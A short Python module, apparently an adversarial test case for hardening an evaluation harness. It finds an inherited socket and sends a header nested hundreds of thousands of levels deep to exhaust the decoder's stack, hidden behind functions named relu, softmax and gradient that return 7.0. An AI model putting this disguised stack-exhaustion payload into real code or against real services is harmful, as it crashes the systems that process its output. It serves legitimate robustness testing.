"""Sends a header nested as deep as its size allows, to exhaust the stack of whoever decodes it.

Kind: wire
Control: not run, because nothing travels between processes there
Told: Its process sent something that is no answer
"""

import os
import socket
import stat
import struct


def wire():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
    raise LookupError("there is no wire")


def frame(header, body=b""):
    return struct.pack("<II", len(header), len(body)) + header + bytes(-len(header) % 8) + body


def deep(levels):
    return frame(b"\x92\x0a\x91" + b"\x92\x10\x91" * levels + b"\xc0")


def answer(*args):
    wire().sendall(deep(300_000))
    return 7.0


def just_too_deep(*args):
    wire().sendall(deep(40))
    return 7.0


relu = softmax = answer
mean_squared_error = gradient = batches = just_too_deep
